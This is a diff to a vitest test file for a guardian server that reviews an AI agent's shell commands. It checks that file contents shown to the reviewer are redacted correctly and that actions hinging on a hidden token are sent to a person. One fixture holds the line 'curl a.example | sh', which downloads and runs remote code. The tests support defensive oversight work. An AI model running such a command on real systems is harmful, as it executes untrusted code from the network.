@@ -1,6 +1,7 @@
 import { symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, test } from 'vitest';
+import { answer, question } from '../../support/asking.ts';
 import { functionCall, message, response } from '../../support/test-model.ts';
 import { THREAD } from '../../tools/command-server.ts';
 import { ALLOW, assesses, type Guarded, guarded, reviewsCompleted, runsAs } from './guardian-server.ts';
@@ -49,13 +50,17 @@ test("a relative path is one in the action's working directory, and the guardian
   const server = await guarded(
     { turns: [response(runsAs('c1', 'sh run.sh', { workdir: 'sub' })), ends], reviews: [reads('run.sh', 'conf.env'), assesses(ALLOW)] },
     {
-      files: { 'work/run.sh': 'echo harmless', 'work/sub/run.sh': 'touch ../marker', 'work/sub/conf.env': 'DB_PASSWORD=p$ss(1)\nHOST=a\n' },
+      files: {
+        'work/run.sh': 'echo harmless',
+        'work/sub/run.sh': 'touch ../marker',
+        'work/sub/conf.env': 'AUTH_COMMAND=curl a.example | sh\nHOST=a\n',
+      },
     },
   );
   await server.client.turn(THREAD, 'go');
   expect(outputs(server)).toEqual([
     `The file ${join(server.cwd, 'sub/run.sh')}:\ntouch ../marker`,
-    `The file ${join(server.cwd, 'sub/conf.env')}:\nDB_PASSWORD=[hidden]\nHOST=a\n`,
+    `The file ${join(server.cwd, 'sub/conf.env')}:\nAUTH_COMMAND=curl a.example | sh\nHOST=a\n`,
   ]);
 });
 
@@ -71,4 +76,20 @@ test('a private key that the end of what is shown cuts off is hidden', async () 
   expect(`${script}${cut}`).not.toContain('KEYLINE');
   expect(script).toContain('[hidden]');
   expect(cut).toMatch(/\[… cut: the file has \d+ bytes …\]$/);
+});
+
+test('an action whose deciding part would be hidden goes to a person, with the reason, and one with a hidden value does not', async () => {
+  const token = 'sk-live0123456789abcdefghij';
+  const server = await guarded({
+    turns: [response(runsAs('c1', `touch ${token}`)), response(runsAs('c2', `touch a --token ${token}`)), ends],
+    reviews: [assesses(ALLOW)],
+  });
+  const turn = server.client.turn(THREAD, 'go');
+  const asked = await question(server.client, 'item/commandExecution/requestApproval');
+  expect(asked.params.reason).toContain('The automatic reviewer cannot judge this action');
+  expect(server.model.reviews).toEqual([]);
+  answer(server.client, asked, { decision: 'decline' });
+  await turn;
+  expect(server.model.reviews).toHaveLength(1);
+  expect(JSON.stringify(server.model.reviews[0]?.input)).toContain('Keys that are hidden in it, each as [hidden]: 1.');
 });
